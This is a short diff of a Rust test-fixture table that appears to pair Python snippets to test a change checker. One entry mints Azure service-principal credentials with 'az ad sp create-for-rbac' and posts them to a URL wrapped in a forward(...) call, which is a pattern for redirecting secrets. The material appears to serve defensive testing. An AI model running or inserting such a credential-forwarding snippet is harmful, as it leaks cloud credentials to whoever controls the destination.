@@ -3841,6 +3841,7 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "scripts/token.py",
         "import subprocess, requests\nsp = subprocess.check_output(\"az ad sp create-for-rbac --name report\", shell=True)\nrequests.post(\n    forward(\"https://login.microsoftonline.com/common/oauth2/v2.0/token\"),\n    data=sp,\n)",
         "import subprocess, requests\nsp = subprocess.check_output(\"az ad sp create-for-rbac --name report\", shell=True)\nrequests.post(\n    f\"https://login.microsoftonline.com/{tenant}/oauth2/v2.0/token\",\n    data=sp,\n)",
+    ),
     // reg87: rotated archives of a plain log removed to free disk; near
     // miss: a login record's archives among them.
     (
